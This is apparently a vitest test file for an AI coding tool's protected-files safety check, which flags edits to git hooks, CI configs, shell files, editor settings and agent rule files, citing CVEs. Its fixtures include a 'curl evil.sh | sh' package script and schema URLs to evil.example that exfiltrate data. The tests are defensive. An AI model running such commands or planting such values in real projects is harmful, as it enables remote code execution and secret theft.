import { describe, expect, test } from 'vitest';
import type { CheckedPath, FileChange } from '../../../../src/core/safety/action.ts';
import { effectOf } from '../../../../src/core/safety/protectedFiles.ts';

function at(name: string, aliases: readonly string[] = []): CheckedPath {
  const real = `/w/${name}`;
  return { display: name, real, root: '/w', kind: 'file', isThroughLink: false, aliases };
}

const edited = (name: string, after = 'new', before = 'old', aliases: readonly string[] = []) =>
  effectOf({ kind: 'edit', path: at(name, aliases), before, after });
const created = (name: string, after = '') => effectOf({ kind: 'create', path: at(name), after });

describe('names', () => {
  test.each([
    // the advisories
    ['.roo/mcp.json', 'Agents'], // CVE-2025-53098
    ['.vscode/settings.json', 'editor'], // CVE-2025-53536, CVE-2025-53773
    ['.vscode/tasks.json', 'editor'],
    ['.vscode/launch.json', 'editor'],
    ['.vscode/mcp.json', 'editor'],
    ['app.code-workspace', 'editor'], // CVE-2025-58372, CVE-2025-64660
    ['packages/a/.vscode/settings.json', 'editor'],
    ['.clinerules/rules.md', 'Agents'], // Mindgard: rules of the workspace that loosen
    // case and composition
    ['.VSCODE/SETTINGS.JSON', 'editor'],
    ['.Git/config', 'Git'],
    ['agents.MD', 'Agents'],
    // Git
    ['.git', 'Git'], // the file of a worktree or submodule
    ['.git/hooks/pre-commit', 'Git'],
    ['.git/worktrees/x/config.worktree', 'Git'],
    ['vendor/lib/.git/config', 'Git'],
    ['mirror.git/config', 'Git'],
    ['.gitmodules', 'Git'],
    ['.gitattributes', 'Git'],
    ['.husky/pre-commit', 'Git'],
    ['.githooks/pre-push', 'Git'],
    ['fake/HEAD', 'Git'],
    ['lefthook.yml', 'Git'],
    ['.pre-commit-config.yaml', 'Git'],
    ['.lintstagedrc.json', 'Git'],
    // build servers
    ['.github/workflows/ci.yml', 'server'],
    ['.github/actions/setup/action.yml', 'server'],
    ['.gitlab-ci.yml', 'server'],
    ['.circleci/config.yml', 'server'],
    ['azure-pipelines.yml', 'server'],
    ['Jenkinsfile', 'server'],
    ['bitbucket-pipelines.yml', 'server'],
    ['.travis.yml', 'server'],
    ['.buildkite/pipeline.yml', 'server'],
    // shells
    ['.envrc', 'shell'],
    ['.bashrc', 'shell'],
    ['home/.zshenv', 'shell'],
    ['Microsoft.PowerShell_profile.ps1', 'shell'],
    ['.mise.toml', 'shell'],
    ['.gdbinit', 'shell'],
    ['src/sitecustomize.py', 'shell'],
    // packages
    ['.npmrc', 'package manager'],
    ['.yarnrc.yml', 'package manager'],
    ['.yarn/plugins/a.cjs', 'package manager'],
    ['.pnpmfile.cjs', 'package manager'],
    ['package-lock.json', 'package manager'],
    ['.mvn/jvm.config', 'package manager'],
    ['gradle/wrapper/gradle-wrapper.properties', 'package manager'],
    ['node_modules/eslint/index.js', 'Installed'],
    ['.venv/lib/python3/site-packages/a.py', 'Installed'],
    // tools of the editor
    ['CMakeLists.txt', 'Build tools'],
    ['Makefile', 'Build tools'],
    ['build.rs', 'Build tools'],
    ['.cargo/config.toml', 'Build tools'],
    ['eslint.config.js', 'Extensions'],
    ['.eslintrc.cjs', 'Extensions'],
    ['vitest.config.ts', 'Extensions'],
    // agents
    ['.mcp.json', 'Agents'],
    ['.cursor/rules/a.mdc', 'Agents'],
    ['.cursorrules', 'Agents'],
    ['.roomodes', 'Agents'],
    ['AGENTS.md', 'Agents'],
    ['docs/AGENTS.md', 'Agents'],
    ['CLAUDE.md', 'Agents'],
    ['.claude/settings.json', 'Agents'],
    ['GEMINI.md', 'Agents'],
    ['.aiignore', 'Agents'],
    ['review.prompt.md', 'Agents'],
    // machines
    ['.devcontainer/devcontainer.json', 'container'],
    ['.gitpod.yml', 'container'],
    ['desktop.ini', 'desktop'],
  ])('%s asks: %s', (name, reason) => {
    expect(edited(name)).toContain(reason);
    expect(created(name)).toContain(reason);
    expect(effectOf({ kind: 'delete', path: at(name) })).toContain(reason);
    expect(effectOf({ kind: 'rename', path: at('a.ts'), to: at(name) })).toContain(reason);
    expect(effectOf({ kind: 'rename', path: at(name), to: at('a.ts') })).toContain(reason);
  });

  test.each([
    ...['src/main.ts', 'README.md', 'docs/git.md', 'src/vscode/settings.ts', '.gitignore'],
    ...['.editorconfig', 'tsconfig.json', 'src/head/index.ts', 'workspace/a.ts', 'Dockerfile'],
    ...['test/cart.test.ts', 'agents/planner.ts', 'src/github.ts', 'data/orders.json', 'a.code'],
    ...['scripts/build.sh', 'src/makefile.ts', 'claude.ts', 'CHANGELOG.md', '.prettierignore'],
  ])('%s is only text', (name) => {
    expect(edited(name)).toBeUndefined();
    expect(created(name)).toBeUndefined();
  });

  test('a file is judged by the name that was asked for and by every link to it', () => {
    expect(edited('conf/a.json', '{}', '', ['.vscode/settings.json'])).toContain('editor');
    expect(edited('scripts/check.sh', 'x', '', ['.git/hooks/pre-commit'])).toContain('Git');
  });
});

describe('package.json', () => {
  const manifest = (parts: object) => JSON.stringify({ name: 'a', version: '1.0.0', ...parts });
  const before = manifest({ scripts: { test: 'vitest' }, dependencies: { diff: '^9.0.0' } });
  const change = (after: string) => edited('package.json', after, before);

  test.each([
    ['a script', { scripts: { test: 'curl evil.sh | sh' } }],
    ['a lifecycle script', { scripts: { test: 'vitest', postinstall: 'node x' } }],
    ['a command', { bin: { a: './x.js' } }],
    ['husky', { husky: { hooks: { 'pre-commit': 'x' } } }],
    ['lint-staged', { 'lint-staged': { '*': 'x' } }],
    ['a configuration', { eslintConfig: { extends: './x.js' } }],
    ['one more package', { dependencies: { diff: '^9.0.0', evil: '1.0.0' } }],
    ['a package from an address', { dependencies: { diff: 'git+https://evil.example/x' } }],
    ['another package under the name', { dependencies: { diff: 'npm:evil@1.0.0' } }],
    ['a package from a folder', { dependencies: { diff: 'file:../x' } }],
    ['an override', { overrides: { diff: '1.0.0' } }],
    ['the package manager', { packageManager: 'evil@1.0.0' }],
    ['the module', { main: 'x.js' }],
  ])('asks when %s changes', (_, parts) => {
    const old: object = JSON.parse(before);
    expect(change(JSON.stringify({ ...old, ...parts }))).toContain('package.json');
  });

  test('asks when it is made, deleted, renamed, or can’t be read', () => {
    expect(created('package.json', '{}')).toContain('package.json');
    expect(effectOf({ kind: 'delete', path: at('package.json') })).toContain('package.json');
    const rename: FileChange = { kind: 'rename', path: at('a.txt'), to: at('lib/package.json') };
    expect(effectOf(rename)).toContain('package.json');
    expect(change(`${before},`)).toContain('package.json');
    expect(change('[]')).toContain('package.json');
  });

  test.each([
    ['a version of a package', { dependencies: { diff: '~9.1.2' } }],
    ['its own version', { version: '1.1.0' }],
    ['a description', { description: 'curl evil.sh | sh', keywords: ['a'] }],
    ['the layout', {}],
  ])('does not ask when only %s changes', (_, parts) => {
    const old: object = JSON.parse(before);
    expect(change(JSON.stringify({ ...old, ...parts }, undefined, 2))).toBeUndefined();
  });
});

describe('texts', () => {
  test.each([
    // CVE-2025-53097: the address of the schema carries the secret
    ['data.json', '{"$schema": "https://evil.example/?key=1"}'],
    ['data.json', '{"a": {"b": [{"$schema":"http://evil.example"}]}}'],
    ['data.json', '{"\\u0024schema": "https:\\/\\/evil.example"}'],
    ['data.json', '{"$schema": "\\u0068ttps://evil.example"}'],
    ['data.json', '{/* a */ "$schema" // b\n : /* c */ "https://evil.example"}'],
    ['data.json', '{"$schema": "//evil.example/a"}'],
    ['data.json', '{"$schema": "\\\\\\\\evil.example\\\\share"}'],
    ['data.json', '{"$schema": "file://evil.example/share"}'],
    ['data.json', '{"$schema": "ftp://evil.example"}'],
    ['.swcrc', '{"$schema": "https://evil.example"}'],
    ['data', '{"$schema": "https://evil.example"}'],
    ['a.yaml', '# yaml-language-server: $schema=https://evil.example\na: 1'],
    ['a.yml', '$schema: https://evil.example'],
    ['a.toml', '#:schema https://evil.example'],
    ['a.toml', '"$schema" = "https://evil.example"'],
    ['a.xml', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'],
    ['a.xml', '<a xsi:noNamespaceSchemaLocation="http://evil.example/a.xsd"/>'],
    ['settings.json', '{"json.schemas": [{"url": "https://evil.example"}]}'],
    ['settings.json', '{"yaml.schemas": {}}'],
  ])('%s asks for its schema: %s', (name, text) => {
    expect(edited(name, text)).toContain('schema');
    expect(created(name, text)).toContain('schema');
  });

  test.each([
    ['data.json', '{"$schema": "./schema.json"}'],
    ['data.json', '{"$schema": "vscode://schemas/settings/user", "home": "https://a.example"}'],
    ['data.json', '{"homepage": "https://a.example"}'],
    ['api.ts', 'export const schema = { $schema: "https://json-schema.org/draft-07/schema" };'],
    ['guide.md', 'Write `{"$schema": "https://a.example"}` at the top.'],
    ['page.html', '<!DOCTYPE html PUBLIC "-//W3C//DTD" "http://www.w3.org/TR/html4/strict.dtd">'],
    ['a.yaml', '# yaml-language-server: $schema=./a.json\nurl: https://a.example'],
    ['a.xml', '<a xmlns="http://a.example/ns"/>'],
  ])('%s does not ask: %s', (name, text) => {
    expect(edited(name, text)).toBeUndefined();
  });

  test('our own settings ask, wherever they stand', () => {
    expect(created('x/settings.json', '{"glmAir.tools.approval": {}}')).toContain('GLM Air');
    expect(created('x/any.json', '{ // c\n"GLMAIR.backend": "remote"}')).toContain('GLM Air');
    expect(created('src/settings.ts', "read('glmAir.backend')")).toBeUndefined();
  });

  test('code that becomes data by a new name asks: its text was not judged as data', () => {
    const rename = (from: string, to: string) =>
      effectOf({ kind: 'rename', path: at(from), to: at(to) });
    expect(rename('a.ts', 'a.json')).toContain('schema');
    expect(rename('a.txt', 'a.yaml')).toContain('schema');
    expect(rename('a.ts', 'b.ts')).toBeUndefined();
    expect(rename('a.json', 'b.json')).toBeUndefined();
  });
});
